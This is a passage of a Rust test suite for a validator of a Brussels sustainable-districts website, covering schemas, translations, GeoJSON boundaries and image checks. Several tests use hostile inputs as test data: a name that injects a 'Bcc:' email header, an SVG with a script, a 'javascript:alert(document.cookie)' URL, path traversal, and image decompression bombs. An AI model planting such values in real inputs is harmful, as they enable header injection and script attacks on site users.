        .replace("CC-BY-4.0", "CC BY 4.0")
        .replace("https://creativecommons", "creativecommons");
    s.write(PROGRAMME, format!("{text}{bad}"));
    let d = s.check();
    let name = expect(&d, "schema.invalid-value", PROGRAMME, lines + 2, 9);
    assert!(
        name.message_in(Lang::En).contains("not a licence id"),
        "{:?}",
        name.message
    );
    expect(&d, "config.url", PROGRAMME, lines + 3, 9);
    assert_eq!(errors(&d), 2, "{d:#?}");
}

#[test]
fn rejects_translations_without_original() {
    let s = Site::base();
    s.write(
        "content/pages/ghost.nl.md",
        "---\ntitle: Spook\n---\nText.\n",
    );
    expect_only(
        &s.check(),
        "i18n.translation",
        "content/pages/ghost.nl.md",
        1,
        1,
    );
}

#[test]
fn warns_about_email_addresses_in_public_text() {
    let s = Site::base();
    s.edit(
        "content/pages/about.md",
        "soutient les habitants.",
        "soutient les habitants.\nÉcrire à anne@example.org.",
    );
    let d = s.check();
    let w = expect_only(&d, "privacy.email", "content/pages/about.md", 5, 10);
    assert_eq!(w.severity, Severity::Warning);
}

#[test]
fn warns_about_images_without_alt_text() {
    let s = Site::base();
    s.edit(DISTRICT, "![Le parc vu de la rue]", "![]");
    let d = s.check();
    let w = expect_only(&d, "a11y.alt", DISTRICT, 17, 1);
    assert_eq!(w.severity, Severity::Warning);
}

#[test]
fn reports_every_problem_of_a_run_sorted_by_file_and_line() {
    let s = Site::base();
    s.edit(PROJECT, "requested: 2330.5", "requested: 2330");
    s.edit(PROJECT, "themes: [food]", "themes: [cooking]");
    s.edit(DISTRICT, "commune: forest", "commune: ixelles");
    let d = s.check();
    let got: Vec<(String, u32, &str)> = d
        .iter()
        .map(|d| (d.file_display(), d.span.line, d.rule.code()))
        .collect();
    assert_eq!(
        got,
        vec![
            (DISTRICT.to_string(), 3, "ref.commune"),
            (PROJECT.to_string(), 4, "ref.theme"),
            (PROJECT.to_string(), 12, "budget.total"),
        ]
    );
}

#[test]
fn reports_a_broken_profile_once_not_on_every_reference() {
    let s = Site::base();
    s.edit(
        "content/experts/jan-peeters.md",
        "role: expert",
        "role: expret",
    );
    let d = s.check();
    expect_only(
        &d,
        "schema.invalid-value",
        "content/experts/jan-peeters.md",
        3,
        7,
    );
}

#[test]
fn reports_a_misfiled_project_once() {
    let s = Site::base();
    s.edit(PROJECT, "edition: 2024", "edition: 2023");
    let d = s.check();
    expect_only(&d, "ref.edition", PROJECT, 3, 10);
}

#[test]
fn rejects_person_names_with_line_breaks() {
    let s = Site::base();
    s.edit(
        "content/experts/marie-dupont.md",
        "name: Marie Dupont",
        "name: \"Marie\\nBcc: x@example.org\"",
    );
    let d = s.check();
    expect(
        &d,
        "schema.invalid-value",
        "content/experts/marie-dupont.md",
        2,
        7,
    );
}

/// Every code of the rule table (docs/rules.md, the published contract) is a rule here.
#[test]
fn every_code_of_the_rule_table_is_a_rule() {
    for code in rule_table_codes() {
        assert!(
            Rule::from_code(&code).is_some(),
            "docs/rules.md: code {code} is not a rule"
        );
    }
}

#[test]
fn suggests_the_closest_id_for_a_typo() {
    let s = Site::base();
    s.edit(DISTRICT, "coach: marie-dupont", "coach: marie-dupon");
    s.edit(PROJECT, "themes: [food]", "themes: [fod]");
    let d = s.check();
    let person = expect(&d, "ref.person", DISTRICT, 5, 8);
    assert!(
        person
            .help_in(Lang::En)
            .unwrap_or_default()
            .starts_with("did you mean `marie-dupont`?"),
        "{person:?}"
    );
    let theme = expect(&d, "ref.theme", PROJECT, 4, 10);
    assert!(
        theme
            .help_in(Lang::En)
            .unwrap_or_default()
            .starts_with("did you mean `food`?"),
        "{theme:?}"
    );
}

const BOUNDARIES: &str = "data/communes.geojson";

/// Two square communes side by side: Forest west of 4.33°E, Saint-Gilles east of it.
fn boundaries(forest_id: &str, saint_gilles_ring: &str) -> String {
    format!(
        r#"{{"type": "FeatureCollection", "features": [
  {{"type": "Feature", "properties": {{"id": "{forest_id}"}},
   "geometry": {{"type": "Polygon", "coordinates": [[[4.30, 50.80], [4.33, 50.80], [4.33, 50.83], [4.30, 50.83], [4.30, 50.80]]]}}}},
  {{"type": "Feature", "properties": {{"id": "saint-gilles"}},
   "geometry": {{"type": "Polygon", "coordinates": [{saint_gilles_ring}]}}}}
]}}
"#
    )
}

const SAINT_GILLES: &str =
    "[[4.33, 50.80], [4.36, 50.80], [4.36, 50.83], [4.33, 50.83], [4.33, 50.80]]";

#[test]
fn accepts_commune_boundaries() {
    let s = Site::base();
    s.write(BOUNDARIES, boundaries("forest", SAINT_GILLES));
    expect_clean(&s.check());
}

#[test]
fn rejects_a_boundary_of_an_unknown_commune() {
    let s = Site::base();
    s.write(BOUNDARIES, boundaries("ixelles", SAINT_GILLES));
    let diags = s.check();
    let d = expect(&diags, "geo.invalid", BOUNDARIES, 2, 44);
    let text = d.message_in(Lang::En);
    assert!(text.contains("`ixelles`"), "{text}");
}

#[test]
fn rejects_an_open_boundary_ring() {
    let s = Site::base();
    let open = "[[4.33, 50.80], [4.36, 50.80], [4.36, 50.83], [4.33, 50.83]]";
    s.write(BOUNDARIES, boundaries("forest", open));
    let diags = s.check();
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 5, 52);
    assert!(
        d.message_in(Lang::En).contains("not closed"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_a_boundary_coordinate_out_of_range() {
    let s = Site::base();
    let ring = "[[4.33, 50.80], [4.36, 50.80], [4.36, 95.5], [4.33, 50.83], [4.33, 50.80]]";
    s.write(BOUNDARIES, boundaries("forest", ring));
    let diags = s.check();
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 5, 90);
    assert!(
        d.message_in(Lang::En).contains("latitude 95.5"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_a_boundary_file_over_the_position_bound() {
    let s = Site::base();
    let ring = "[4.33, 50.80], ".repeat(wijk::geo::json::MAX_POSITIONS);
    s.write(
        BOUNDARIES,
        boundaries("forest", &format!("[{ring}[4.33, 50.80]]")),
    );
    let diags = s.check();
    // At the first position over the bound: Forest holds 5, each position here takes 15 columns.
    let column = 53 + 15 * (wijk::geo::json::MAX_POSITIONS as u32 - 5);
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 5, column);
    assert!(
        d.message_in(Lang::En)
            .contains("more than 1000000 positions"),
        "{:?}",
        d.message
    );
}

#[test]
fn warns_when_a_location_is_outside_its_commune() {
    let s = Site::base();
    s.write(BOUNDARIES, boundaries("forest", SAINT_GILLES));
    s.edit(DISTRICT, "lon: 4.3261", "lon: 4.3461");
    let diags = s.check();
    let d = expect_only(&diags, "geo.outside", DISTRICT, 4, 11);
    assert_eq!(d.severity, Severity::Warning);
    assert!(
        d.message_in(Lang::En)
            .contains("is in Saint-Gilles, not in Forest"),
        "{:?}",
        d.message
    );
    s.edit(
        DISTRICT,
        "{lat: 50.8182, lon: 4.3461}",
        "{lat: 4.3261, lon: 50.8182}",
    );
    let diags = s.check();
    let d = expect_only(&diags, "geo.outside", DISTRICT, 4, 11);
    assert!(
        d.help_in(Lang::En).unwrap_or_default().contains("swapped"),
        "{d:?}"
    );
}

/// Forest and Saint-Gilles as another publisher names them: by `name_fr`, written its own way,
/// with a code beside it; Forest as a MultiPolygon with a hole.
fn named_boundaries(forest: &str, saint_gilles: &str) -> String {
    format!(
        r#"{{"type": "FeatureCollection", "features": [
  {{"type": "Feature", "properties": {{"code": 21007, "name_fr": "{forest}"}},
   "geometry": {{"type": "MultiPolygon", "coordinates": [[[[4.30, 50.80], [4.33, 50.80], [4.33, 50.83], [4.30, 50.83], [4.30, 50.80]], [[4.31, 50.81], [4.312, 50.81], [4.312, 50.812], [4.31, 50.81]]]]}}}},
  {{"type": "Feature", "properties": {{"code": 21013, "name_fr": "{saint_gilles}"}},
   "geometry": {{"type": "Polygon", "coordinates": [{SAINT_GILLES}]}}}}
]}}
"#
    )
}

const MATCH_NAME_FR: &str = "map: {boundaries: {match: name_fr}}\n";

fn matched_by_name_fr() -> Site {
    let s = Site::base();
    s.edit(
        PROGRAMME,
        "editions:\n",
        &format!("{MATCH_NAME_FR}editions:\n"),
    );
    s
}

#[test]
fn accepts_boundaries_named_by_another_property_in_any_case_or_language() {
    let s = matched_by_name_fr();
    s.write(BOUNDARIES, named_boundaries("FOREST", "saint gilles"));
    expect_clean(&s.check());
    s.write(BOUNDARIES, named_boundaries("Vorst", "Sint-Gillis"));
    expect_clean(&s.check());
    // The district in Saint-Gilles is found there through the matched outline.
    s.edit(DISTRICT, "lon: 4.3261", "lon: 4.3461");
    let diags = s.check();
    let d = expect_only(&diags, "geo.outside", DISTRICT, 4, 11);
    assert!(
        d.message_in(Lang::En).contains("is in Saint-Gilles"),
        "{d:?}"
    );
}

#[test]
fn rejects_a_boundary_whose_name_matches_no_commune() {
    let s = matched_by_name_fr();
    s.write(BOUNDARIES, named_boundaries("Forest-Nord", "Saint-Gilles"));
    let diags = s.check();
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 2, 64);
    let text = d.message_in(Lang::En);
    assert!(text.contains("`Forest-Nord` (`name_fr`)"), "{text}");
    assert!(d.help_in(Lang::En).unwrap_or_default().contains("accents"));
}

#[test]
fn rejects_two_boundaries_named_for_one_commune() {
    let s = matched_by_name_fr();
    s.write(BOUNDARIES, named_boundaries("Saint-Gilles", "SAINT-GILLES"));
    let diags = s.check();
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 4, 64);
    let text = d.message_in(Lang::En);
    assert!(text.contains("`saint-gilles` has two features"), "{text}");
}

#[test]
fn rejects_a_boundary_without_the_matched_property_and_an_empty_match() {
    let s = matched_by_name_fr();
    let file = named_boundaries("Forest", "Saint-Gilles");
    s.write(
        BOUNDARIES,
        file.replace("\"name_fr\": \"Saint", "\"nom\": \"Saint"),
    );
    let diags = s.check();
    let d = expect_only(&diags, "geo.invalid", BOUNDARIES, 4, 37);
    assert!(d.message_in(Lang::En).contains("`properties.name_fr`"));
    s.edit(PROGRAMME, "match: name_fr", "match: \" \"");
    let diags = s.check();
    expect(&diags, "schema.invalid-value", PROGRAMME, 13, 27);
}

#[test]
fn accepts_a_map_with_tiles_and_rejects_a_template_without_coordinates_or_attribution() {
    let s = Site::base();
    let notifications = "notifications: {from: \"Quartiers Durables <noreply@example.org>\"}\n";
    let good = "map: {tiles: \"https://tile.example.org/{z}/{x}/{y}.png\", attribution: \"© OSM\", max_zoom: 18}\n";
    s.edit(PROGRAMME, notifications, &format!("{notifications}{good}"));
    expect_clean(&s.check());
    s.edit(PROGRAMME, "/{z}/{x}/{y}.png", "/tiles.png");
    let diags = s.check();
    let d = expect_only(&diags, "schema.invalid-value", PROGRAMME, 13, 14);
    assert!(
        d.message_in(Lang::En).contains("not a tile URL template"),
        "{:?}",
        d.message
    );
    s.edit(
        PROGRAMME,
        "/tiles.png\", attribution: \"© OSM\", max_zoom: 18",
        "/{z}/{x}/{y}.png\", max_zoom: 30",
    );
    let diags = s.check();
    expect(&diags, "schema.missing-field", PROGRAMME, 13, 6);
    expect(&diags, "schema.invalid-value", PROGRAMME, 13, 68);
}

/// Puts `bytes` in the district's assets as `name` and shows it in the district's body (line 17).
fn show_picture(s: &Site, name: &str, bytes: &[u8]) {
    s.write(&format!("content/districts/wiels/assets/{name}"), bytes);
    s.edit(DISTRICT, "(assets/parc.png)", &format!("(assets/{name})"));
}

/// A small real photo.
fn small_jpeg() -> Vec<u8> {
    photo::jpeg(&photo::garden(64, 48, 1), 80)
}

#[test]
fn rejects_heic_images_naming_the_format() {
    let s = Site::base();
    show_picture(
        &s,
        "IMG_0001.heic",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\0",
    );
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En)
            .contains("HEIC images are not supported"),
        "{:?}",
        d.message
    );
    assert!(
        d.help_in(Lang::En).unwrap_or_default().contains("JPEG"),
        "{d:?}"
    );
}

#[test]
fn rejects_truncated_images() {
    let s = Site::base();
    let jpeg = small_jpeg();
    show_picture(&s, "coupe.jpg", &jpeg[..jpeg.len() / 2]);
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En).contains("truncated JPEG"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_images_whose_pixels_do_not_decode() {
    let s = Site::base();
    // A whole structure (IHDR, IDAT, IEND with their CRCs) around a deflate stream that is not one.
    let mut ihdr = 16u32.to_be_bytes().to_vec();
    ihdr.extend(8u32.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(photo::png_chunk(b"IHDR", &ihdr));
    png.extend(photo::png_chunk(
        b"IDAT",
        &[0x78, 0x9c, 0xde, 0xad, 0xbe, 0xef],
    ));
    png.extend(photo::png_chunk(b"IEND", b""));
    show_picture(&s, "abime.png", &png);
    expect_clean(&s.check());
    let corpus = wijk::load::load(s.root()).unwrap();
    let site = wijk::validate::validate(&corpus).site.unwrap();
    let cache = tempfile::tempdir().unwrap();
    let cache = wijk::pictures::Cache::open(cache.path(), s.root()).unwrap();
    let diags = wijk::validate::decode_pictures(&site, &cache).unwrap();
    let d = expect_only(&diags, "asset.corrupt", DISTRICT, 17, 1);
    fixture_site::assert_translated(d);
    assert!(
        d.message_in(Lang::En).contains("abime.png"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_images_whose_name_lies_about_their_format() {
    let s = Site::base();
    show_picture(&s, "photo.jpg", &photo::png(&photo::garden(32, 24, 2)));
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En).contains("holds a PNG image"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_image_bombs_before_decoding() {
    let s = Site::base();
    show_picture(&s, "bombe.png", &photo::png_declaring(100_000, 100_000, 1));
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En).contains("100000 × 100000"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_images_with_an_absurd_side() {
    let s = Site::base();
    show_picture(&s, "fil.png", &photo::png_declaring(1, 65_535, 65_535));
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En).contains("1 × 65535"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_svg_images() {
    let s = Site::base();
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#;
    show_picture(&s, "plan.svg", svg.as_bytes());
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En)
            .contains("SVG images are not supported"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_documents_shown_as_images() {
    let s = Site::base();
    show_picture(&s, "plan.pdf", b"%PDF-1.7\n");
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    assert!(
        d.message_in(Lang::En).contains("is not an image"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_text_under_a_picture_name_in_words_of_each_language() {
    let s = Site::base();
    show_picture(&s, "plan.png", b"just some text, no picture\n");
    let diags = s.check();
    let d = expect_only(&diags, "asset.format", DISTRICT, 17, 1);
    for (lang, said) in [
        (
            Lang::En,
            "is not an image; images are JPEG, PNG or WebP files",
        ),
        (
            Lang::Fr,
            "n'est pas une image ; les images sont des fichiers JPEG",
        ),
        (Lang::Nl, "is geen afbeelding; afbeeldingen zijn JPEG-"),
    ] {
        let m = d.message_in(lang);
        assert!(m.contains(said) && !m.contains("kind"), "{lang:?}: {m}");
    }
}

#[test]
fn warns_about_images_over_20_mb() {
    let s = Site::base();
    let big = photo::png_with_chunk(
        &photo::png(&photo::garden(32, 24, 3)),
        &photo::png_chunk(b"prVt", &vec![7u8; 21 * 1024 * 1024]),
    );
    show_picture(&s, "lourde.png", &big);
    let diags = s.check();
    let w = expect_only(&diags, "asset.size", DISTRICT, 17, 1);
    assert_eq!(w.severity, Severity::Warning);
    assert!(
        w.message_in(Lang::En).contains("over 20 MB"),
        "{:?}",
        w.message
    );
}

#[test]
fn warns_about_pictures_that_record_where_they_were_taken() {
    let s = Site::base();
    show_picture(&s, "telephone.jpg", &photo::phone_jpeg(64, 48, 1, 5));
    let diags = s.check();
    let w = expect_only(&diags, "privacy.gps", DISTRICT, 17, 1);
    assert_eq!(w.severity, Severity::Warning);
    assert!(w.message_in(Lang::En).contains("GPS"), "{:?}", w.message);
    assert!(w.message_in(Lang::Fr).contains("position GPS"));
    assert!(w.message_in(Lang::Nl).contains("gps-positie"));
}

#[test]
fn accepts_phone_pictures_without_a_position() {
    let s = Site::base();
    let plain = photo::jpeg(&photo::garden(64, 48, 5), 85);
    show_picture(&s, "telephone.jpg", &plain);
    expect_clean(&s.check());
}

#[test]
fn warns_about_covers_narrower_than_they_are_shown() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "themes: [food, biodiversity]\n",
        "themes: [food, biodiversity]\ncover: {src: assets/parc.png, alt: \"Le parc\"}\n",
    );
    let diags = s.check();
    let w = expect_only(&diags, "asset.size", DISTRICT, 8, 14);
    assert!(
        w.message_in(Lang::En).contains("64 pixels wide"),
        "{:?}",
        w.message
    );
}

#[test]
fn accepts_a_png_with_a_huge_compressed_text_chunk() {
    let s = Site::base();
    let png = photo::png_with_chunk(
        &photo::png(&photo::garden(32, 24, 4)),
        &photo::png_ztxt_bomb(64 * 1024 * 1024),
    );
    show_picture(&s, "texte.png", &png);
    expect_clean(&s.check());
}

/// A cover of the project, 1200 pixels wide (line 6 of the project).
fn with_project_cover(s: &Site, alt: &str) {
    s.write(
        "content/districts/wiels/assets/bacs.jpg",
        photo::jpeg(&photo::garden(1200, 800, 5), 70),
    );
    s.edit(
        PROJECT,
        "summary: \"Un potager partagé au pied de la brasserie.\"\n",
        &format!("summary: \"Un potager partagé au pied de la brasserie.\"\ncover: {{src: ../assets/bacs.jpg{alt}}}\n"),
    );
}

#[test]
fn accepts_covers_with_translated_text() {
    let s = Site::base();
    with_project_cover(&s, ", alt: \"Les bacs au printemps\"");
    s.edit(
        TRANSLATION,
        "summary:",
        "cover: {alt: \"De bakken in de lente\"}\nsummary:",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_covers_without_alternative_text() {
    let s = Site::base();
    with_project_cover(&s, "");
    expect_only(&s.check(), "schema.missing-field", PROJECT, 6, 9);
}

#[test]
fn rejects_a_translated_cover_picture() {
    let s = Site::base();
    with_project_cover(&s, ", alt: \"Les bacs\"");
    s.edit(
        TRANSLATION,
        "summary:",
        "cover: {src: ../assets/parc.png, alt: \"De bakken\"}\nsummary:",
    );
    let diags = s.check();
    let d = expect_only(&diags, "i18n.translation", TRANSLATION, 3, 9);
    assert!(
        d.message_in(Lang::En)
            .contains("`cover.src` cannot be translated"),
        "{:?}",
        d.message
    );
}

#[test]
fn rejects_a_missing_cover() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "themes: [food, biodiversity]\n",
        "themes: [food, biodiversity]\ncover: {src: assets/jardin.jpg, alt: \"Le jardin\"}\n",
    );
    expect_only(&s.check(), "asset.missing", DISTRICT, 8, 14);
}

#[test]
fn rejects_addresses_of_the_configuration_that_are_not_https() {
    let s = Site::base();
    s.edit(
        PROGRAMME,
        "https://wijken.example.org",
        "\"javascript:alert(document.cookie)\"",
    );
    let diags = s.check();
    let d = expect_only(&diags, "config.url", PROGRAMME, 4, 11);
    assert!(
        d.message_in(Lang::En)
            .contains("`base_url` is not a full web address"),
        "{:?}",
        d.message
    );
    let s = Site::base();
    let notifications = "notifications: {from: \"Quartiers Durables <noreply@example.org>\"}\n";
    s.edit(
        PROGRAMME,
        notifications,
        &format!("{notifications}editing: {{backend: github, repo: ../../user, base_url: \"http://auth.example.org\"}}\n"),
    );
    // The repository and the address are both reported in one run.
    let diags = s.check();
    assert_eq!(diags.len(), 2, "{diags:?}");
    expect(&diags, "config.url", PROGRAMME, 13, 34);
    expect(&diags, "config.url", PROGRAMME, 13, 56);
    s.edit(PROGRAMME, "../../user", "quartiers/contenu");
    let diags = s.check();
    let d = expect_only(&diags, "config.url", PROGRAMME, 13, 63);
    assert!(d.message_in(Lang::En).contains("must start with https://"));
}

#[test]
fn rejects_a_text_that_yaml_reads_as_a_number_saying_to_quote_it() {
    let s = Site::base();
    s.edit(PROJECT, "title: Potager collectif du Wiels", "title: 2024");
    let diags = s.check();
    let d = expect_only(&diags, "schema.invalid-value", PROJECT, 2, 8);
    assert!(d
        .message_in(Lang::En)
        .contains("`2024` is read as a number"));
    assert!(d.help_in(Lang::Fr).unwrap_or_default().contains("\"2024\""));
    assert!(d.message_in(Lang::Nl).contains("getal"));
    s.edit(PROJECT, "title: 2024", "title: \"2024\"");
    expect_clean(&s.check());
}

#[test]
fn rejects_an_empty_cover_alternative_text() {
    let s = Site::base();
    with_project_cover(&s, ", alt: \"\"");
    expect_only(&s.check(), "schema.invalid-value", PROJECT, 6, 39);
}

/// The 2024 edition of the base fixture as a call with three tracks (the 2023 call's caps).
const TRACKS_2024: &str = "{year: 2024, submission_deadline: 2024-06-30, tracks: {\
small: {fr: Petit projet citoyen, nl: Klein burgerproject, grant_max: 3500}, \
district: {fr: Quartier durable citoyen, nl: Participatieve duurzame wijk, grant_max: 15000}, \
large: {fr: Grand projet, nl: Groot project, grant_max: 30000}}}";

/// The base fixture with tracks in edition 2024 (when `tracks`) and `track:` on the district's
/// 2024 dossier (when given).
fn site_with_tracks(tracks: bool, track: Option<&str>) -> Site {
    let s = Site::base();
    if tracks {
        s.edit(
            PROGRAMME,
            "{year: 2024, submission_deadline: 2024-06-30}",
            TRACKS_2024,
        );
    }
    if let Some(t) = track {
        s.edit(
            DISTRICT,
            "  - edition: 2024\n",
            &format!("  - edition: 2024\n    track: {t}\n"),
        );
    }
    s
}

#[test]
fn accepts_a_dossier_in_one_of_its_editions_tracks() {
    expect_clean(&site_with_tracks(true, Some("district")).check());
}

#[test]
fn rejects_a_track_that_is_not_one_of_the_editions() {
    let d = site_with_tracks(true, Some("xl")).check();
    let e = expect_only(&d, "ref.track", DISTRICT, 10, 12);
    let en = e.message_in(Lang::En);
    assert_eq!(en, "`xl` is not a track of edition 2024");
    let help = e.help_in(Lang::En).unwrap_or_default();
    assert!(help.contains("small, district, large"), "{help}");
    assert!(e
        .message_in(Lang::Fr)
        .contains("n'est pas un volet de l'édition 2024"));
    assert!(e
        .message_in(Lang::Nl)
        .contains("is geen spoor van de editie 2024"));
}

#[test]
fn rejects_a_missing_track_where_the_edition_has_tracks() {
    let d = site_with_tracks(true, None).check();
    let e = expect_only(&d, "ref.track", DISTRICT, 9, 14);
    assert!(e.message_in(Lang::En).contains("names no track"));
    assert!(e.message_in(Lang::Fr).contains("ne nomme aucun volet"));
    assert!(e.message_in(Lang::Nl).contains("noemt geen spoor"));
}

#[test]
fn rejects_a_track_where_the_edition_has_none() {
    let d = site_with_tracks(false, Some("small")).check();
    let e = expect_only(&d, "ref.track", DISTRICT, 10, 12);
    assert!(e.message_in(Lang::En).contains("has no tracks"));
    assert!(e.message_in(Lang::Fr).contains("n'a pas de volets"));
    assert!(e.message_in(Lang::Nl).contains("heeft geen sporen"));
}

#[test]
fn rejects_a_small_track_dossier_over_its_tracks_cap() {
    // The edition's largest track allows 30,000: the small track's 3,500 is the cap.
    let s = site_with_tracks(true, Some("small"));
    s.edit(PROJECT, "amount: 2150}", "amount: 4819.5}");
    s.edit(PROJECT, "requested: 2330.5", "requested: 5000");
    let d = s.check();
    let e = expect_only(&d, "budget.grant-cap", PROJECT, 12, 14);
    let en = e.message_in(Lang::En);
    for part in ["€5,000.00", "€3,500.00", "`small`", "Petit projet citoyen"] {
        assert!(en.contains(part), "{part} not in {en}");
    }
    assert!(e.message_in(Lang::Fr).contains("du volet `small`"));
    assert!(e.message_in(Lang::Nl).contains("van het spoor `small`"));
    // The same budget in the large track is within its cap.
    s.edit(DISTRICT, "track: small", "track: large");
    expect_clean(&s.check());
}

// A district's communes (`commune` or `communes`), its closing and its old ids.

/// A second district beside `wiels`, with `extra` lines in its front matter.
fn other_district(s: &Site, extra: &str) {
    s.write(
        "content/districts/other/district.md",
        format!("---\nname: Autre quartier\ncommune: forest\n{extra}---\n"),
    );
}

#[test]
fn accepts_a_district_in_several_communes_and_a_closed_one_with_aliases() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "commune: forest",
        "communes: [forest, saint-gilles]",
    );
    other_district(
        &s,
        "closed: {date: 2016-12-31, successor: wiels}\naliases: [oxy-15, old-other]\n",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_commune_and_communes_together() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "commune: forest",
        "commune: forest\ncommunes: [forest]",
    );
    let diags = s.check();
    let d = expect_only(&diags, "schema.invalid-value", DISTRICT, 4, 11);
    assert!(d.message_in(Lang::En).contains("not both"), "{d:?}");
}

#[test]
fn rejects_a_district_without_commune() {
    let s = Site::base();
    s.edit(DISTRICT, "commune: forest\n", "");
    let diags = s.check();
    let d = expect_only(&diags, "schema.missing-field", DISTRICT, 2, 1);
    assert!(d
        .help_in(Lang::En)
        .unwrap_or_default()
        .contains("communes: [uccle, forest]"));
}

#[test]
fn rejects_an_empty_list_of_communes() {
    let s = Site::base();
    s.edit(DISTRICT, "commune: forest", "communes: []");
    expect_only(&s.check(), "schema.invalid-value", DISTRICT, 3, 11);
}

#[test]
fn rejects_a_commune_listed_twice() {
    let s = Site::base();
    s.edit(DISTRICT, "commune: forest", "communes: [forest, forest]");
    expect_only(&s.check(), "id.duplicate", DISTRICT, 3, 20);
}

#[test]
fn rejects_an_unknown_commune_in_the_list() {
    let s = Site::base();
    s.edit(DISTRICT, "commune: forest", "communes: [forest, ixelles]");
    expect_only(&s.check(), "ref.commune", DISTRICT, 3, 20);
}

#[test]
fn accepts_a_location_in_the_second_commune_of_a_district() {
    let s = Site::base();
    s.write(BOUNDARIES, boundaries("forest", SAINT_GILLES));
    s.edit(DISTRICT, "lon: 4.3261", "lon: 4.3461");
    s.edit(
        DISTRICT,
        "commune: forest",
        "communes: [forest, saint-gilles]",
    );
    expect_clean(&s.check());
    s.edit(DISTRICT, "lon: 4.3461", "lon: 4.3961");
    let diags = s.check();
    let d = expect_only(&diags, "geo.outside", DISTRICT, 4, 11);
    assert!(
        d.message_in(Lang::En).contains("Forest, Saint-Gilles"),
        "{d:?}"
    );
}

#[test]
fn rejects_a_successor_that_does_not_exist() {
    let s = Site::base();
    let closed = "commune: forest\nclosed: {date: 2016-12-31, successor: nowhere}";
    s.edit(DISTRICT, "commune: forest", closed);
    expect_only(&s.check(), "ref.district", DISTRICT, 4, 39);
}

#[test]
fn rejects_a_district_that_succeeds_itself() {
    let s = Site::base();
    let closed = "commune: forest\nclosed: {date: 2016-12-31, successor: wiels}";
    s.edit(DISTRICT, "commune: forest", closed);
    let diags = s.check();
    let d = expect_only(&diags, "ref.district", DISTRICT, 4, 39);
    assert!(
        d.message_in(Lang::En).contains("its own successor"),
        "{d:?}"
    );
}

#[test]
fn rejects_a_closing_date_that_is_not_a_day() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "commune: forest",
        "commune: forest\nclosed: {date: 2016-02-30}",
    );
    expect_only(&s.check(), "schema.invalid-value", DISTRICT, 4, 16);
}

#[test]
fn rejects_an_alias_that_is_a_district_id() {
    let s = Site::base();
    other_district(&s, "");
    s.edit(
        DISTRICT,
        "commune: forest",
        "commune: forest\naliases: [other]",
    );
    let diags = s.check();
    let d = expect_only(&diags, "ref.alias", DISTRICT, 4, 11);
    assert!(d
        .message_in(Lang::En)
        .contains("already the id of a district"));
}

#[test]
fn rejects_an_alias_of_two_districts_on_the_later_one() {
    let s = Site::base();
    other_district(&s, "aliases: [oxy-15]\n");
    s.edit(
        DISTRICT,
        "commune: forest",
        "commune: forest\naliases: [oxy-15]",
    );
    let diags = s.check();
    let d = expect_only(&diags, "ref.alias", DISTRICT, 4, 11);
    assert!(
        d.message_in(Lang::En).contains("alias of district `other`"),
        "{d:?}"
    );
    s.edit(DISTRICT, "aliases: [oxy-15]", "aliases: [oxy-16, oxy-16]");
    expect_only(&s.check(), "ref.alias", DISTRICT, 4, 19);
}

#[test]
fn rejects_an_alias_that_is_not_an_id() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "commune: forest",
        "commune: forest\naliases: [Old_Wiels]",
    );
    expect_only(&s.check(), "id.invalid", DISTRICT, 4, 11);
}

/// The translation of the base project with Dutch lists after its summary (file line 4 on).
fn translate_lists(s: &Site, lists: &str) {
    s.edit(
        TRANSLATION,
        "brouwerij.\"\n",
        &format!("brouwerij.\"\n{lists}"),
    );
}

const DUTCH_LISTS: &str = "roadmap:\n  - {step: Akkoord van de gemeente}\n  - {step: Planten}\nbudget:\n  lines:\n    - {label: Bakken en potgrond}\n    - {label: Affiches}\nupdates:\n  - {date: 2024-10-05, text: Eerste oogst.}\n";

#[test]
fn accepts_translated_roadmaps_budget_lines_updates_and_evaluations() {
    let s = Site::base();
    translate_lists(&s, DUTCH_LISTS);
    s.edit(
        DISTRICT,
        "outcome: selected}",
        "outcome: selected}\n    evaluation: {date: 2025-06-20, summary: \"Un bilan.\"}",
    );
    s.write(
        "content/districts/wiels/district.nl.md",
        "---\ntitle: Wielswijk\ndossiers:\n  - {edition: 2024, evaluation: {summary: Een balans.}}\n---\nEen wijk.\n",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_a_translated_list_with_another_count() {
    let s = Site::base();
    translate_lists(&s, "roadmap:\n  - {step: Akkoord van de gemeente}\n");
    let d = s.check();
